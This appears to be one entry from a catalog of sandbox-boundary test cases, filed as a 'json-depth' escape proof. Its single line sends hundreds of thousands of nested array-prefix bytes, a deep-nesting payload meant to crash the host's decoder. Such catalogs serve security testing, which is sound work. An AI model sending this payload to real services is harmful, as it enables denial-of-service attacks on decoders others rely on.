# level: boundary
# category: json-depth
# escape proof: the decoder of the host crashes
# control: none, because the host's decoder is no layer that can be taken away

SEND_RAW(b"\x91" * 400_000 + b"\xc0")
